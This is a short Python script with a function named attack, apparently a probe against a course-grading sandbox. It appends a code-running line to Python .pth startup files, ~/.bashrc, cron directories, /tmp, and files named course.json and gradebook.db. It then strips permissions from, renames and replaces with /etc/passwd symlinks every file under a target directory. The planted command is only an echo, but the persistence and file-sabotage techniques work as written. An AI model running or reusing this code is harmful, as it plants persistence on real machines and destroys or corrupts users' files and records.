# Leaves something behind: beside the marks, in the home, where Python starts, where cron looks.
import glob
import os
import site


def attack(*arguments):
    for place in (OUTSIDE, os.path.expanduser("~"), "/tmp", "/etc/cron.d", *site.getsitepackages()):
        for name in ("planted.pth", ".bashrc", "course.json", "gradebook.db"):
            try:
                with open(os.path.join(place, name), "a") as file:
                    file.write("import os; os.system('echo planted')\n")
            except OSError:
                pass
    for name in glob.glob(OUTSIDE + "/**/*", recursive=True):
        try:
            os.chmod(name, 0)
            os.rename(name, name + ".moved")
            os.symlink("/etc/passwd", name)
        except OSError:
            pass
